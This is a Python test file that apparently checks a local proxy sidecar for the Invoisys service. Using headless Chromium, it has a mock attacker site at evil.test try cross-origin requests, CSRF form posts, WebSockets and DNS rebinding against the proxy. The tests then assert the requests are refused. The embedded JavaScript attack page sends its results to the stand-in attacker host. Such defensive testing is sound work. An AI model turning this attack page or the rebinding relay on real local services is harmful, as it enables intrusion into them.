"""Real attacks from a real browser: pages of another origin try all they can, and nothing arrives at Invoisys."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import json
import os
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
from aiohttp import web

from tests.support.config import written
from tests.support.processes import Fake, Sidecar, sidecar

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

needs_chromium = pytest.mark.needs("chromium")

PATIENCE = 60.0
LISTENER_PATHS = ["/api/nfe/envio", "/api/token", "/v1/x"]
ADMIN_PATHS = ["/refresh", "/quit", "/status", "/metrics", "/", "/events", "/requests/x", "/static/page.js"]

ATTACKS = """<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const target = TARGET, paths = PATHS, results = {};
const tried = async (name, attack) => {
  try { results[name] = String(await attack()); } catch (error) { results[name] = "failed: " + error.name; }
};
const loaded = (element, address) => new Promise((resolve) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("error");
  setTimeout(() => resolve("nothing"), 5000);
  element.src = address;
  document.body.append(element);
});
const sent = (method, enctype, path) => new Promise((resolve) => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "frame" + Math.random();
  frame.onload = () => resolve("loaded");
  setTimeout(() => resolve("nothing"), 5000);
  Object.assign(form, {method, enctype, action: target + path, target: frame.name});
  form.append(Object.assign(document.createElement("input"), {name: '{"cnpj":"', value: '"}'}));
  document.body.append(frame, form);
  form.submit();
});
const readable = async (response) => response.status + " " + (await response.text()).slice(0, 40);
const streamed = (address) => new Promise((resolve) => {
  const events = new EventSource(address);
  events.onmessage = () => resolve("200 readable");
  events.onopen = () => resolve("200 open");
  events.onerror = () => { events.close(); resolve("error"); };
});
const socket = (path) => new Promise((resolve) => {
  const opened = new WebSocket(target.replace("http", "ws") + path);
  opened.onopen = () => resolve("open");
  opened.onerror = () => resolve("error");
});
(async () => {
  if (REBIND) await fetch(REBIND, {mode: "no-cors"});
  for (const path of paths) {
    const at = target + path, body = "{}";
    await tried("get " + path, () => fetch(at).then(readable));
    await tried("blind get " + path, () => fetch(at, {mode: "no-cors"}).then((answer) => answer.type));
    await tried("simple post " + path, () => fetch(at, {method: "POST", mode: "no-cors", body}).then((a) => a.type));
    await tried("json post " + path, () =>
      fetch(at, {method: "POST", headers: {"Content-Type": "application/json"}, body}).then(readable));
    await tried("put " + path, () => fetch(at, {method: "PUT", body}).then(readable));
    await tried("authorized " + path, () => fetch(at, {headers: {Authorization: "Bearer x"}}).then(readable));
    await tried("beacon " + path, () => navigator.sendBeacon(at, body));
    await tried("form post " + path, () => sent("post", "text/plain", path));
    await tried("form get " + path, () => sent("get", "application/x-www-form-urlencoded", path));
    await tried("image " + path, () => loaded(new Image(), at));
    await tried("script " + path, () => loaded(document.createElement("script"), at));
    await tried("frame " + path, () => loaded(document.createElement("iframe"), at));
    await tried("stream " + path, () => streamed(at));
    await tried("socket " + path, () => socket(path));
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
</script>"""


class Attacker:
    """A site of the attacker's, which serves one page, takes its report, and leads its own name elsewhere if asked."""

    def __init__(self) -> None:
        self.page = ""
        self.reported: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()
        self.rebound = False

    async def answer(self, request: web.BaseRequest) -> web.Response:
        match request.path:
            case "/page":
                response = web.Response(text=self.page, content_type="text/html")
            case "/report":
                self.reported.set_result(json.loads(await request.text()))
                response = web.Response()
            case "/rebind":
                self.rebound = True
                response = web.Response()
            case _:
                response = web.Response(status=404)
        response.force_close()
        return response

    async def switch(self, sidecar_port: int, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Be the address of a name that leads to the attacker at first, and to the sidecar once it is rebound."""
        first = await reader.read(65536)  # a browser connects ahead of need: what counts is when it sends
        port = sidecar_port if self.rebound else self.port
        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", port)
        far_writer.write(first)
        await asyncio.gather(_pass(reader, far_writer), _pass(far_reader, writer))

    async def open(self) -> None:
        self._runner = web.ServerRunner(web.Server(self.answer))
        await self._runner.setup()
        await web.TCPSite(self._runner, "127.0.0.1", 0).start()
        self.port = self._runner.addresses[0][1]

    async def close(self) -> None:
        await self._runner.cleanup()


@contextlib.asynccontextmanager
async def attacker() -> AsyncIterator[Attacker]:
    site = Attacker()
    await site.open()
    try:
        yield site
    finally:
        await site.close()


async def _pass(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with contextlib.suppress(ConnectionError):
        while piece := await reader.read(65536):
            writer.write(piece)
            await writer.drain()
    writer.close()


async def visit(url: str, site: Attacker, profile: Path, *names: str) -> dict[str, str]:
    """Open a page in Chromium, to which every name leads to this machine, and return what the page reports."""
    rules = ", ".join(f"MAP {name} 127.0.0.1" for name in names)
    process = await asyncio.create_subprocess_exec(
        "chromium",
        "--headless=new",
        "--no-sandbox",  # the tests may run as root, in a container
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={profile}",
        f"--host-resolver-rules={rules}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        url,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=os.environ | {"HOME": str(profile)},
    )
    try:
        async with asyncio.timeout(PATIENCE):
            return await site.reported
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.terminate()
        await process.wait()
        shutil.rmtree(profile, ignore_errors=True)


def page(target: str, site: Attacker, paths: list[str], *, rebind: bool = False) -> str:
    own = f"http://evil.test:{site.port}"
    parts = {"TARGET": target, "PATHS": paths, "REPORT": f"{own}/report", "REBIND": f"{own}/rebind" if rebind else None}
    text = ATTACKS
    for name, value in parts.items():
        text = text.replace(name, json.dumps(value))
    return text


def refusals(proxy: Sidecar) -> list[int]:
    """The statuses that the sidecar gave, as its log has them once it has stopped."""
    proxy.process.stop()
    return [event["status"] for event in proxy.process.events if event["event"] == "request"]


@needs_chromium
async def test_a_page_of_another_origin_gets_nothing_through(fake: Fake, tmp_path: Path) -> None:
    async with attacker() as site:
        with sidecar(fake.url) as proxy:
            await fake.reached(logins_granted=1)
            site.page = page(proxy.url, site, LISTENER_PATHS)
            results = await visit(f"http://evil.test:{site.port}/page", site, tmp_path / "profile", "evil.test")
            state = await fake.state()
            statuses = refusals(proxy)
    assert (state["requests"], state["documents"], state["logins"]) == (0, 0, 1)
    assert readable(results) == {}
    assert set(statuses) == {403}
    assert len(statuses) >= 5 * len(LISTENER_PATHS)  # it was the sidecar that stopped them, not the browser


@needs_chromium
async def test_a_page_that_was_let_in_gets_through(fake: Fake, tmp_path: Path) -> None:
    async with attacker() as site:
        own = f"http://let-in.test:{site.port}"
        config = written(tmp_path, listeners=[{"bind": "127.0.0.1:0", "origins": [own]}])
        with sidecar(fake.url, "-c", config, LISTEN="") as proxy:
            site.page = page(proxy.url, site, LISTENER_PATHS[:1])
            results = await visit(f"{own}/page", site, tmp_path / "profile", "evil.test", "let-in.test")
            state = await fake.state()
    told = readable(results)
    assert told["json post /api/nfe/envio"] == "200"  # after a preflight
    assert told["put /api/nfe/envio"] == "404"  # what Invoisys itself answers
    assert results["blind get /api/nfe/envio"] == "opaque"
    assert state["requests"] >= 3


@needs_chromium
async def test_a_rebound_name_gets_nothing_through(fake: Fake, tmp_path: Path) -> None:
    async with attacker() as site:
        with sidecar(fake.url) as proxy:
            await fake.reached(logins_granted=1)
            port = int(proxy.url.rpartition(":")[2])
            switch = await asyncio.start_server(functools.partial(site.switch, port), "127.0.0.1", 0)
            async with switch:
                own = f"http://rebind.test:{switch.sockets[0].getsockname()[1]}"
                site.page = page(own, site, LISTENER_PATHS, rebind=True)
                results = await visit(f"{own}/page", site, tmp_path / "profile", "evil.test", "rebind.test")
            state = await fake.state()
            statuses = refusals(proxy)
    assert (state["requests"], state["documents"], state["logins"]) == (0, 0, 1)
    # To the browser it is the page's own origin, so it may read the refusals, and nothing else.
    assert set(readable(results).values()) == {"421"}
    assert set(statuses) == {421}
    assert len(statuses) >= 5 * len(LISTENER_PATHS)


@needs_chromium
async def test_a_page_of_another_origin_moves_nothing_at_the_operator_s_port(fake: Fake, tmp_path: Path) -> None:
    async with attacker() as site:
        with sidecar(fake.url) as proxy:
            await fake.reached(logins_granted=1)
            site.page = page(proxy.admin, site, ADMIN_PATHS)
            results = await visit(f"http://evil.test:{site.port}/page", site, tmp_path / "profile", "evil.test")
            assert (await proxy.issue(1)).status == 200  # it has not been stopped
            state = await fake.state()
    assert state["logins"] == 1
    assert readable(results) == {}


def readable(results: dict[str, str]) -> dict[str, str]:
    """The statuses of those answers that the page could read."""
    return {name: result.split()[0] for name, result in results.items() if result[:3].isdigit()}
